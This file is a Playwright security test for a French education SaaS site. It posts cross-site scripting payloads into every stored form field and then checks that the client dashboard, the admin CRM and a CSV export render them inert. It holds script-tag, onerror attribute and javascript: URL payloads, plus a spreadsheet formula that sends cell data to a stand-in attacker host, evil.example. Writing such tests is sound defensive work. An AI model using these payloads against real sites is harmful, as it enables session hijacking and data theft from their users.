import type { APIRequestContext, Page } from "@playwright/test";
import { DatabaseSync } from "node:sqlite";
import path from "node:path";
import { settingsValues } from "#app/features/crm/settings/configuration.ts";
import { WEBINARS } from "#content/resources/webinars.ts";
import { DEFAULT_SETTINGS } from "#app/features/crm/settings/defaults.ts";
import { adminApi, inHtml, shareSession, signUp, uniqueEmail } from "./accounts.ts";
import { apiContext, expect as baseExpect, hydrated, test } from "./fixtures.ts";
import { DATA_DIR, marker } from "./security-helpers.ts";

// Sign-ups wait for a password hash on the server: allow for a busy test machine.
const expect = baseExpect.configure({ timeout: 15_000 });

/**
 * Issue 10, security: no stored input is ever rendered unescaped. Script, attribute and template
 * payloads go through every field a visitor, a customer or a staff member can fill (each field
 * with a tag of its own), then the pages that show them are opened in a real browser, in the
 * client space and the admin CRM: no payload ran (`window.__xss`, no dialog, no injected element,
 * no `javascript:` link, no blocked inline script in the console), and each field's payload reads
 * as the text that was typed, escaped in the server's HTML.
 */

const SCRIPT = "<script>window.__xss=1</script>";
const ATTRIBUTE = `"><img src=x onerror="window.__xss=1">`;
const TEMPLATE = "{{7*7}}";
const JS_URL = "javascript:window.__xss=1";
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Voir")';
const DEFAULT_BUSINESS = settingsValues(DEFAULT_SETTINGS).business;
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);

/** The payload of one field: its tag (to find it again), then the script, attribute and template. */
function payload(run: string, field: string): string {
  return `${field}${run} ${SCRIPT}${ATTRIBUTE}${TEMPLATE}`;
}
/** For fields of at most 60 characters. */
function shortPayload(run: string, field: string): string {
  return `${field}${run} ${ATTRIBUTE}`;
}

interface Seeded {
  readonly run: string;
  readonly customer: APIRequestContext;
  readonly customerEmail: string;
  readonly texts: Record<string, string>;
  readonly leads: Record<"contact" | "quote" | "demo" | "webinar" | "feedback" | "chatbot", string>;
  readonly clientId: string;
  readonly ticketId: string;
}

function leadIdWith(tag: string, type: string): string {
  const db = new DatabaseSync(path.join(DATA_DIR, "app.db"), { readOnly: true });
  try {
    const row = db
      .prepare(
        "SELECT id FROM lead WHERE type = ? AND instr(payload, ?) > 0 ORDER BY created_at DESC LIMIT 1",
      )
      .get(type, tag) as { id: string } | undefined;
    expect(row, `the ${type} lead tagged ${tag}`).toBeTruthy();
    return row!.id;
  } finally {
    db.close();
  }
}

async function tokenOf(visitor: APIRequestContext, pagePath: string): Promise<string> {
  const html = await (await visitor.get(pagePath)).text();
  const token = /name="_token" value="([^"]+)"/.exec(html)?.[1];
  expect(token, `form token of ${pagePath}`).toBeTruthy();
  return token!;
}

async function ok(res: Awaited<ReturnType<APIRequestContext["post"]>>, what: string, status = 200) {
  expect(res.status(), `${what}: ${res.status() >= 400 ? (await res.text()).slice(0, 300) : ""}`).toBe(
    status,
  );
  return res;
}

/** Every stored field of the site, filled with its payload over HTTP, as browsers post the forms. */
async function seed(page: Page, admin: APIRequestContext): Promise<Seeded> {
  const run = marker("").slice(-7);
  const t: Record<string, string> = {};
  const p = (field: string) => (t[field] = payload(run, field));
  const ps = (field: string) => (t[field] = shortPayload(run, field));

  // Visitors: the lead forms, the webinar registration, the feedback widget and the chatbot.
  const visitors = await Promise.all(Array.from({ length: 6 }, () => apiContext()));
  const [contactV, quoteV, demoV, webinarV, feedbackV, chatV] = visitors as [
    APIRequestContext,
    APIRequestContext,
    APIRequestContext,
    APIRequestContext,
    APIRequestContext,
    APIRequestContext,
  ];
  const tokens = await Promise.all([
    tokenOf(contactV, "/contact"),
    tokenOf(quoteV, "/devis"),
    tokenOf(demoV, "/demo"),
    webinarV.get("/api/form-token").then(async (r) => ((await r.json()) as { token: string }).token),
  ]);
  const control = {
    website_url: "",
    utm_source: JS_URL,
    utm_campaign: p("utm"),
    _landing: JS_URL,
    _referrer: JS_URL,
  };
  await ok(
    await contactV.post("/contact", {
      form: {
        ...control,
        _token: tokens[0],
        firstName: p("cpr"),
        lastName: p("cno"),
        email: `contact-${run}@xss-e2e.example`,
        institution: p("cet"),
        subject: "other",
        message: p("cms"),
      },
      maxRedirects: 0,
    }),
    "contact",
    303,
  );
  await ok(
    await quoteV.post("/devis", {
      form: {
        ...control,
        // A spreadsheet formula, for the CSV export.
        utm_source: FORMULA,
        _token: tokens[1],
        institution: p("qet"),
        institutionType: "secondary",
        students: "640",
        establishments: "1",
        timeline: "within-3-months",
        firstName: p("qpr"),
        lastName: p("qno"),
        email: `devis-${run}@xss-e2e.example`,
        position: p("qpo"),
        message: p("qms"),
      },
      maxRedirects: 0,
    }),
    "quote",
    303,
  );
  await ok(
    await demoV.post("/demo", {
      form: {
        ...control,
        _token: tokens[2],
        institution: p("det"),
        institutionType: "secondary",
        students: "640",
        firstName: p("dpr"),
        lastName: p("dno"),
        email: `demo-${run}@xss-e2e.example`,
        position: p("dpo"),
        message: p("dms"),
      },
      maxRedirects: 0,
    }),
    "demo",
    303,
  );
  const webinar = WEBINARS.find((w) => Date.parse(w.start) > Date.now());
  expect(webinar, "an upcoming webinar").toBeTruthy();
  const registered = await ok(
    await webinarV.post("/api/webinar-registration", {
      form: {
        _token: tokens[3],
        website_url: "",
        webinar: webinar!.id,
        firstName: p("wpr"),
        lastName: p("wno"),
        email: `webinaire-${run}@xss-e2e.example`,
        institution: p("wet"),
        position: p("wpo"),
        page: "/ressources/webinaires",
      },
      maxRedirects: 0,
    }),
    "webinar",
    303,
  );
  expect(registered.headers().location).toContain("sent");
  const feedback = await ok(
    await feedbackV.post("/api/feedback", {
      form: { message: p("fbk"), page: "/tarification" },
      maxRedirects: 0,
    }),
    "feedback",
    303,
  );
  expect(feedback.headers().location).toContain("feedback=sent");
  await ok(
    await chatV.post("/api/leads/chatbot", {
      data: {
        source: "chatbot",
        sessionId: `chat-${run}`,
        email: `chat-${run}@xss-e2e.example`,
        name: p("bno"),
        institution: p("bet"),
        interests: [p("bin")],
        language: "fr",
        transcript: [{ sender: "user", text: p("btr") }],
      },
    }),
    "chatbot",
    201,
  );
  await Promise.all(visitors.map((v) => v.dispose()));
  const leads = {
    contact: leadIdWith(`cms${run}`, "contact"),
    quote: leadIdWith(`qms${run}`, "quote"),
    demo: leadIdWith(`dms${run}`, "demo"),
    webinar: leadIdWith(`wpr${run}`, "webinar"),
    feedback: leadIdWith(`fbk${run}`, "feedback"),
    chatbot: leadIdWith(`btr${run}`, "chatbot"),
  };

  // A customer: sign-up names and institution, profile, billing details, a payment method, a
  // change request, a ticket with an attachment and a reply.
  const customerEmail = uniqueEmail("xss");
  const customer = await signUp(customerEmail, {
    firstName: p("spr"),
    lastName: p("sno"),
    institution: p("set"),
  });
  expect((await customer.get("/dashboard")).status()).toBe(200);
  // The sign-up's names and institution, before the profile and the billing details replace them.
  await shareSession(page, customer);
  await expectInert(page, "/dashboard", ["spr", "sno", "set"], t);
  await ok(await customer.post("/test-only/client-space", { form: { step: "seed" } }), "seed");
  await ok(
    await customer.post("/dashboard/profile", {
      form: { intent: "profile", firstName: p("ppr"), lastName: p("pno"), language: "fr" },
    }),
    "profile",
  );
  await ok(
    await customer.post("/dashboard/billing", {
      form: {
        intent: "billing-details",
        name: p("bnm"),
        addressLine1: p("ba1"),
        addressLine2: p("ba2"),
        postalCode: "75005",
        city: p("bvi"),
        country: "FR",
      },
    }),
    "billing details",
  );
  await ok(
    await customer.post("/dashboard/payment-methods", {
      form: { intent: "add-order", kind: "purchase_order", orderReference: ps("bdc") },
    }),
    "payment method",
  );
  await ok(
    await customer.post("/dashboard/subscription", {
      form: { intent: "request-plan", kind: "plan", plan: "excellence", note: p("cha") },
    }),
    "change request",
  );
  // The stored name drops quotes and angle brackets: what is left is still shown as text.
  t.pjn = `pj${run} img src=x onerror=window.__xss=1.png`;
  const opened = await ok(
    await customer.post("/dashboard/support", {
      multipart: {
        intent: "open-ticket",
        subject: p("tsu"),
        category: "technical",
        priority: "P2",
        message: p("tms"),
        attachments: {
          name: `pj${run} "><img src=x onerror=window.__xss=1>.png`,
          mimeType: "image/png",
          buffer: PNG,
        },
      },
      maxRedirects: 0,
    }),
    "ticket",
    302,
  );
  const ticketId = /ticket=([0-9a-f-]{36})/.exec(opened.headers().location ?? "")![1]!;
  await ok(
    await customer.post("/dashboard/support", {
      multipart: { intent: "reply", ticketId, message: p("tre") },
    }),
    "customer reply",
  );

  // Staff: notes of a lead, a client and a ticket, a ticket reply, a proposal line, a lost reason.
  const clientsHtml = await (await admin.get(`/admin/clients?q=${encodeURIComponent(`bnm${run}`)}`)).text();
  const clientId = /href="\/admin\/clients\/([0-9A-Za-z-]{8,})"/.exec(clientsHtml)?.[1];
  expect(clientId, "the customer's institution in the admin list").toBeTruthy();
  const lead = (id: string) => `/admin/quotes/${id}`;
  await ok(await admin.post(lead(leads.contact), { form: { intent: "note", body: p("nld") } }), "lead note");
  await ok(
    await admin.post(lead(leads.demo), { form: { intent: "move", stage: "lost", lostReason: p("per") } }),
    "lost reason",
  );
  const draft = await ok(
    await admin.post(lead(leads.quote), { form: { intent: "proposal.create" } }),
    "proposal",
  );
  const proposalId = /name="proposalId" value="([0-9a-f-]{36})"/.exec(await draft.text())?.[1];
  expect(proposalId, "the proposal's id").toBeTruthy();
  await ok(
    await admin.post(lead(leads.quote), {
      form: {
        intent: "proposal.save",
        proposalId: proposalId!,
        plan: "premium",
        students: "250",
        studentCap: "300",
        mrr: "520,00",
        validUntil: new Date(Date.now() + 20 * 86_400_000).toISOString().slice(0, 10),
        label: p("lig"),
        quantity: "1",
        unit: "399,00",
      },
    }),
    "proposal line",
  );
  await ok(
    await admin.post(`/admin/clients/${clientId}`, { form: { intent: "note", body: p("ncl") } }),
    "client note",
  );
  await ok(
    await admin.post(`/admin/support/${ticketId}`, { form: { intent: "reply", body: p("rst"), status: "" } }),
    "staff reply",
  );
  await ok(
    await admin.post(`/admin/support/${ticketId}`, { form: { intent: "note", body: p("nti") } }),
    "ticket note",
  );
  return { run, customer, customerEmail, texts: t, leads, clientId: clientId!, ticketId };
}

/**
 * Opens a page in the browser and checks that nothing stored ran there and that each listed
 * field's payload is shown as its text.
 */
async function expectInert(
  page: Page,
  url: string,
  fields: readonly string[],
  texts: Record<string, string>,
) {
  const response = await page.goto(url);
  expect(response?.status(), url).toBe(200);
  await hydrated(page);
  const html = await response!.text();
  // In the server's HTML: never as markup, each field escaped.
  expect(html, url).not.toContain(SCRIPT);
  expect(html, url).not.toContain(ATTRIBUTE);
  for (const field of fields) expect.soft(html, `${url}: ${field}`).toContain(inHtml(texts[field]!));
  // In the page: nothing ran, nothing was injected, the text reads as typed.
  const state = await page.evaluate(() => ({
    xss: (window as unknown as { __xss?: unknown }).__xss,
    images: document.querySelectorAll('img[src="x"]').length,
    jsLinks: [...document.querySelectorAll("a[href], area[href], form[action], iframe[src]")].filter((el) =>
      /^\s*javascript:/i.test(
        el.getAttribute("href") ?? el.getAttribute("action") ?? el.getAttribute("src") ?? "",
      ),
    ).length,
    // What a reader sees: the text, and what form fields hold.
    text: [
      document.body.textContent ?? "",
      ...[...document.querySelectorAll("input, textarea")].map((el) => (el as HTMLInputElement).value),
    ].join("\n"),
  }));
  expect(state.xss, url).toBeUndefined();
  expect(state.images, `${url}: injected images`).toBe(0);
  expect(state.jsLinks, `${url}: javascript: links`).toBe(0);
  for (const field of fields) expect.soft(state.text, `${url}: ${field} as text`).toContain(texts[field]!);
}

// Escaping does not depend on the screen: one screen is enough.
test("stored input is never rendered unescaped, in the client space and the admin CRM", async ({ page }) => {
  test.setTimeout(150_000);
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const admin = await adminApi();
  const s = await seed(page, admin);
  const t = s.texts;

  // The client space, as the customer.
  await page.context().clearCookies();
  await shareSession(page, s.customer);
  await expectInert(page, "/dashboard", ["ppr", "pno", "bnm"], t);
  await expectInert(page, "/dashboard/profile", ["ppr", "pno", "bnm"], t);
  await expectInert(page, "/dashboard/billing", ["bnm", "ba1", "ba2", "bvi"], t);
  await expectInert(page, "/dashboard/payment-methods", ["bdc"], t);
  // The change request's note is read by the staff only (below); the request itself is listed here.
  await expectInert(page, "/dashboard/subscription", [], t);
  await expectInert(page, "/dashboard/support", ["tsu"], t);
  await expectInert(page, `/dashboard/support?ticket=${s.ticketId}`, ["tsu", "tms", "tre", "rst", "pjn"], t);

  // The admin CRM.
  await page.context().clearCookies();
  await shareSession(page, admin);
  const lead = (id: string) => `/admin/quotes/${id}`;
  await expectInert(
    page,
    `/admin/quotes?q=${encodeURIComponent(`-${s.run}@xss-e2e.example`)}`,
    ["cet", "qet", "det"],
    t,
  );
  await expectInert(page, lead(s.leads.contact), ["cpr", "cno", "cet", "cms", "nld", "utm"], t);
  await expectInert(page, lead(s.leads.quote), ["qpr", "qno", "qet", "qpo", "qms", "lig"], t);
  await expectInert(page, lead(s.leads.demo), ["dpr", "dno", "det", "dpo", "dms", "per"], t);
  await expectInert(page, lead(s.leads.webinar), ["wpr", "wno", "wet", "wpo"], t);
  await expectInert(page, lead(s.leads.feedback), ["fbk"], t);
  await expectInert(page, lead(s.leads.chatbot), ["bno", "bet", "bin", "btr"], t);
  await expectInert(page, `/admin/clients?q=${encodeURIComponent(`bnm${s.run}`)}`, ["bnm"], t);
  await expectInert(page, `/admin/clients/${s.clientId}`, ["bnm", "ppr", "pno", "ncl"], t);
  await expectInert(page, `/admin/support?q=${encodeURIComponent(`tsu${s.run}`)}`, ["tsu", "bnm"], t);
  await expectInert(page, `/admin/support/${s.ticketId}`, ["tsu", "tms", "tre", "rst", "nti", "pjn"], t);
  await expectInert(page, "/admin/subscriptions", ["cha"], t);
  await expectInert(
    page,
    `/admin/logs?actor=${encodeURIComponent(s.customerEmail)}`,
    ["bnm", "ba1", "bvi", "cha"],
    t,
  );
  await expectInert(page, "/admin/analytics", ["fbk"], t);
  await expectInert(page, "/admin", [], t);

  // The CSV export of the same leads: a cell a spreadsheet would run as a formula starts with a quote.
  const csv = await admin.get(
    `/admin/export/leads.csv?q=${encodeURIComponent(`devis-${s.run}@xss-e2e.example`)}`,
  );
  expect(csv.status()).toBe(200);
  const csvText = await csv.text();
  expect(csvText).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
  for (const cell of csvText.split(/[\r\n,]+/)) expect(cell, "a CSV cell").not.toMatch(/^"?[=+\-@]/);

  // The business details, shown on every public page: changed for this one check only, since the
  // specs running beside this one read the footer.
  const business = {
    ...DEFAULT_BUSINESS,
    legalName: `ent${s.run} ${SCRIPT}`.slice(0, 120),
    street: payload(s.run, "rue"),
    city: payload(s.run, "vil"),
  };
  t.ent = business.legalName;
  t.rue = business.street;
  t.vil = business.city;
  try {
    await ok(
      await admin.post("/admin/configuration", { form: { intent: "business", ...business } }),
      "business",
    );
    await page.context().clearCookies();
    await expectInert(page, "/legal", ["ent", "rue", "vil"], t);
  } finally {
    await ok(
      await admin.post("/admin/configuration", { form: { intent: "business", ...DEFAULT_BUSINESS } }),
      "business restored",
    );
  }
  expect(dialogs, "dialogs opened").toEqual([]);
  await s.customer.dispose();
  await admin.dispose();
});
